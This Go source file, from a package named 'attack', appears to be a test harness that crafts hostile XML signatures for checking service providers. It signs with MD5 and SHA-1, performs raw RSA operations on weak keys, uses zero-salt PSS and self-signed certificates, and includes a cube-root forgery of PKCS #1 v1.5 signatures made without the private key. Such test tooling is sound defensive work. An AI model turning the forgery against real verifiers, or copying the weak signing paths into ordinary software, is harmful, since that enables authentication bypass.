package attack

import (
	"bytes"
	"crypto"
	"crypto/ecdsa"
	_ "crypto/md5" // for the digests that no one must accept
	"crypto/rand"
	"crypto/rsa"
	_ "crypto/sha1"
	_ "crypto/sha256"
	_ "crypto/sha512"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/asn1"
	"math/big"
	"slices"
	"strings"
	"time"
)

var digests = map[string]crypto.Hash{
	sha1Digest: crypto.SHA1, sha256Digest: crypto.SHA256, sha384Digest: crypto.SHA384,
	sha512Digest: crypto.SHA512, md5Digest: crypto.MD5,
}

// digestOf gives the digest in base64; by SHA-256 where the method is unknown.
func (d *draft) digestOf(uri string, text []byte) string {
	hash, ok := digests[uri]
	if !ok {
		hash = crypto.SHA256
	}
	return encode(sum(hash, text))
}

func sum(hash crypto.Hash, text []byte) []byte {
	h := hash.New()
	h.Write(text)
	return h.Sum(nil)
}

// methodOf is the SignatureMethod of a key, with SHA-256 where it is as strong
// as the curve.
func methodOf(key crypto.Signer) string {
	if public, ok := key.Public().(*ecdsa.PublicKey); ok {
		switch bits := public.Curve.Params().BitSize; {
		case bits > 384:
			return more + "ecdsa-sha512"
		case bits > 256:
			return more + "ecdsa-sha384"
		}
		return more + "ecdsa-sha256"
	}
	return more + "rsa-sha256"
}

// hashOf tells a SignatureMethod's hash by the end of its identifier.
func hashOf(method string) crypto.Hash {
	for _, h := range []struct {
		name string
		hash crypto.Hash
	}{{"sha1", crypto.SHA1}, {"sha384", crypto.SHA384}, {"sha512", crypto.SHA512}, {"md5", crypto.MD5}} {
		if strings.Contains(method, h.name) {
			return h.hash
		}
	}
	return crypto.SHA256
}

// signText signs as a SignatureMethod says. Where that is
// unknown, it signs by the key's own method: an identifier alone must not make
// the difference between refused and accepted.
func signText(key crypto.Signer, method string, text []byte) ([]byte, error) {
	hash := hashOf(method)
	digest := sum(hash, text)
	switch key := key.(type) {
	case *rsa.PrivateKey:
		if strings.HasSuffix(method, "rsa-MGF1") {
			return rsaPSS(key, hash, hash, hash.Size(), digest), nil
		}
		if tooWeak(&key.PublicKey) {
			return rsaPKCS1(key, hash, digest), nil
		}
		return rsa.SignPKCS1v15(nil, key, hash, digest)
	case *ecdsa.PrivateKey:
		// No source of randomness makes it deterministic (RFC 6979).
		der, err := key.Sign(nil, digest, hash)
		if err != nil {
			return nil, err
		}
		return rAndS(der, &key.PublicKey)
	}
	value, err := key.Sign(rand.Reader, digest, hash)
	if public, ok := key.Public().(*ecdsa.PublicKey); ok && err == nil {
		return rAndS(value, public)
	}
	return value, err
}

// rAndS turns a signature's ASN.1 into XML Signature's r followed by s (6.4.3).
func rAndS(der []byte, public *ecdsa.PublicKey) ([]byte, error) {
	var value struct{ R, S *big.Int }
	if _, err := asn1.Unmarshal(der, &value); err != nil {
		return nil, err
	}
	size := (public.Curve.Params().BitSize + 7) / 8
	out := make([]byte, 2*size)
	value.R.FillBytes(out[:size])
	value.S.FillBytes(out[size:])
	return out, nil
}

// The bare RSA operations are here because the standard library refuses, with
// reason, to make what a service provider must refuse: weak keys, odd paddings.

// rsaPrivate is the private operation.
func rsaPrivate(key *rsa.PrivateKey, padded []byte) []byte {
	m := new(big.Int).SetBytes(padded)
	return m.Exp(m, key.D, key.N).FillBytes(make([]byte, key.Size()))
}

// rsaPublic is the public operation.
func rsaPublic(key *rsa.PublicKey, padded []byte) []byte {
	m := new(big.Int).SetBytes(padded)
	return m.Exp(m, big.NewInt(int64(key.E)), key.N).FillBytes(make([]byte, key.Size()))
}

var digestInfo = map[crypto.Hash][]byte{ // RFC 8017, 9.2, note 1
	crypto.MD5:    {0x30, 0x20, 0x30, 0x0c, 0x06, 0x08, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x02, 0x05, 0x05, 0x00, 0x04, 0x10},
	crypto.SHA1:   {0x30, 0x21, 0x30, 0x09, 0x06, 0x05, 0x2b, 0x0e, 0x03, 0x02, 0x1a, 0x05, 0x00, 0x04, 0x14},
	crypto.SHA256: {0x30, 0x31, 0x30, 0x0d, 0x06, 0x09, 0x60, 0x86, 0x48, 0x01, 0x65, 0x03, 0x04, 0x02, 0x01, 0x05, 0x00, 0x04, 0x20},
	crypto.SHA384: {0x30, 0x41, 0x30, 0x0d, 0x06, 0x09, 0x60, 0x86, 0x48, 0x01, 0x65, 0x03, 0x04, 0x02, 0x02, 0x05, 0x00, 0x04, 0x30},
	crypto.SHA512: {0x30, 0x51, 0x30, 0x0d, 0x06, 0x09, 0x60, 0x86, 0x48, 0x01, 0x65, 0x03, 0x04, 0x02, 0x03, 0x05, 0x00, 0x04, 0x40},
}

// rsaPKCS1 is RSASSA-PKCS1-v1_5 (RFC 8017, 8.2).
func rsaPKCS1(key *rsa.PrivateKey, hash crypto.Hash, digest []byte) []byte {
	info := append(bytes.Clone(digestInfo[hash]), digest...)
	padded := bytes.Repeat([]byte{0xff}, key.Size())
	padded[0], padded[1] = 0, 1
	padded[len(padded)-len(info)-1] = 0
	copy(padded[len(padded)-len(info):], info)
	return rsaPrivate(key, padded)
}

// rsaPSS is RSASSA-PSS (RFC 8017, 9.1.1) with a salt of zeros.
func rsaPSS(key *rsa.PrivateKey, hash, mgf crypto.Hash, saltLen int, digest []byte) []byte {
	emBits := key.N.BitLen() - 1
	emLen := (emBits + 7) / 8
	salt := make([]byte, saltLen)
	h := sum(hash, append(append(make([]byte, 8), digest...), salt...))
	db := make([]byte, emLen-len(h)-1)
	db[len(db)-saltLen-1] = 1
	copy(db[len(db)-saltLen:], salt)
	xor(db, mgf1(mgf, h, len(db)))
	db[0] &= 0xff >> (8*emLen - emBits)
	return rsaPrivate(key, append(append(db, h...), 0xbc))
}

// mgf1 is RFC 8017, B.2.1.
func mgf1(hash crypto.Hash, seed []byte, n int) []byte {
	var out []byte
	for i := byte(0); len(out) < n; i++ {
		out = append(out, sum(hash, append(bytes.Clone(seed), 0, 0, 0, i))...)
	}
	return out[:n]
}

func xor(dst, with []byte) {
	for i := range dst {
		dst[i] ^= with[i]
	}
}

// certificateOf is Params.Certificate, or a self-signed certificate of the same
// names for another key.
func (d *draft) certificateOf(key crypto.Signer) []byte {
	if key == d.p.Key && d.p.Certificate != nil {
		return d.p.Certificate
	}
	der, err := NewCertificate(key, d.p.Now)
	if err != nil {
		d.fail("certificate: %w", err)
	}
	return der
}

// NewCertificate makes a self-signed certificate that is valid around an
// instant. The same key and instant give the same certificate.
func NewCertificate(key crypto.Signer, now time.Time) ([]byte, error) {
	template := &x509.Certificate{
		SerialNumber: big.NewInt(4711), Subject: pkix.Name{CommonName: "idp.example"},
		NotBefore: now.Add(-24 * time.Hour), NotAfter: now.Add(365 * 24 * time.Hour),
	}
	return x509.CreateCertificate(nil, template, template, key.Public(), key)
}

// tooWeak is what the standard library neither signs with nor certifies.
func tooWeak(public crypto.PublicKey) bool {
	key, ok := public.(*rsa.PublicKey)
	return ok && (key.N.BitLen() < 1024 || key.E < 3)
}

// spki is the public key of the key that signs.
func (d *draft) spki() []byte {
	der, err := x509.MarshalPKIXPublicKey(d.key.Public())
	if err != nil {
		d.fail("public key: %w", err)
	}
	return der
}

// keyValue is a KeyValue with the public key of the key that signs.
func (d *draft) keyValue() string {
	value := `<dsig11:DEREncodedKeyValue xmlns:dsig11="http://www.w3.org/2009/xmldsig11#">` + encode(d.spki()) + `</dsig11:DEREncodedKeyValue>`
	if public, ok := d.key.Public().(*rsa.PublicKey); ok {
		value = "<ds:RSAKeyValue><ds:Modulus>" + encode(public.N.Bytes()) + "</ds:Modulus><ds:Exponent>AQAB</ds:Exponent></ds:RSAKeyValue>"
	}
	return "<ds:KeyValue>" + value + "</ds:KeyValue>"
}

// cubeRootForgery makes, without the private key, a value whose cube begins
// like a PKCS #1 v1.5 padding with the right hash and goes on with garbage.
func cubeRootForgery(key *rsa.PublicKey, digest []byte) []byte {
	begin := slices.Concat([]byte{0, 1}, bytes.Repeat([]byte{0xff}, 8), []byte{0}, digestInfo[crypto.SHA256], digest)
	target := append(begin, bytes.Repeat([]byte{0xff}, key.Size()-len(begin))...)
	return cubeRoot(new(big.Int).SetBytes(target)).FillBytes(make([]byte, key.Size()))
}

// cubeRoot rounds down.
func cubeRoot(n *big.Int) *big.Int {
	low, high := new(big.Int), new(big.Int).Lsh(big.NewInt(1), uint(n.BitLen()/3+1))
	for one := big.NewInt(1); new(big.Int).Sub(high, low).Cmp(one) > 0; {
		mid := new(big.Int).Rsh(new(big.Int).Add(low, high), 1)
		if new(big.Int).Exp(mid, big.NewInt(3), nil).Cmp(n) <= 0 {
			low = mid
		} else {
			high = mid
		}
	}
	return low
}
